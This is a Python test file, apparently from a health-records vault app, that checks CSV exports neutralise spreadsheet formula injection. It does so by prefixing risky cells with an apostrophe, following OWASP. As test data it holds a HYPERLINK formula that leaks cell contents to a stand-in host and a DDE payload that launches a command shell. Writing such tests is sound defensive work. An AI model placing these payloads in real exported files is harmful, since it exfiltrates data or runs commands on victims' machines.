"""CSV exports never hand a spreadsheet a formula, whoever wrote the text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from ohvault import identity
from ohvault.bundles.export import plan_export, write_bundle
from ohvault.bundles.importer import import_bundle
from ohvault.fhir.plain import FORMULA_TRIGGERS, csv_safe, write_csv
from ohvault.model import Condition, MedicationStatement, Observation
from tests.bundles.conftest import Pair, pair  # noqa: F401 - pytest fixture

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),  # a genuine number stays a number
        ("+3", "+3"),
        ("-2e-3", "-2e-3"),
        ("<0.5", "<0.5"),
        ("Glucose", "Glucose"),
        ("a=b", "a=b"),  # only the first character makes a formula
        (-1.5, -1.5),
        (None, None),
        ("", ""),
    ],
)
def test_cells_are_neutralised_as_owasp_recommends(cell: object, written: object) -> None:
    assert csv_safe(cell) == written


def test_text_from_an_imported_bundle_is_exported_harmless(pair: Pair) -> None:  # noqa: F811
    """A patient's bundle in a clinician vault carries formulas; the clinician's CSV defuses them."""
    patient, pid = pair.patient, pair.profile.id
    patient.repo.add(
        Observation(
            profile_id=pid,
            analyte="@SUM(1+1)*cmd|' /C calc'!A0",
            value_text=DDE,
            effective=date(2025, 3, 1),
            note=HYPERLINK,
        )
    )
    patient.repo.add(
        Observation(
            profile_id=pid,
            analyte="Base excess",
            value_num=-1.5,
            unit="mmol/L",
            ref_low=-2.0,
            ref_high=2.0,
            effective=date(2025, 3, 1),
        )
    )
    patient.repo.add(MedicationStatement(profile_id=pid, name="-2+3", dosage="\t=1+1"))
    patient.repo.add(Condition(profile_id=pid, name="\r=A1", note="=1+1"))
    out = pair.tmp / "alex.ohvbundle"
    key = identity.load_or_create(pair.clinician).age_recipient
    write_bundle(patient, plan_export(patient, pid), out, recipients=[key])
    result = import_bundle(pair.clinician, out)
    path = pair.tmp / "patient.csv"
    write_csv(pair.clinician, plan_export(pair.clinician, result.profile_id), path)

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    cells = [v for row in rows for v in row.values() if v]
    risky = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert risky and all(c in {"-1.5", "-2.0"} for c in risky), risky
    by_name = {row["name"]: row for row in rows}
    assert by_name["'@SUM(1+1)*cmd|' /C calc'!A0"]["value"] == "'" + DDE
    assert by_name["'@SUM(1+1)*cmd|' /C calc'!A0"]["note"] == "'" + HYPERLINK
    base = by_name["Base excess"]
    assert (base["value"], base["ref_low"], base["ref_high"]) == ("-1.5", "-2.0", "2.0")
    assert by_name["'-2+3"]["value"] == "'\t=1+1"
    condition = next(row for row in rows if row["type"] == "condition")
    assert condition["name"].startswith("'") and condition["note"] == "'=1+1"
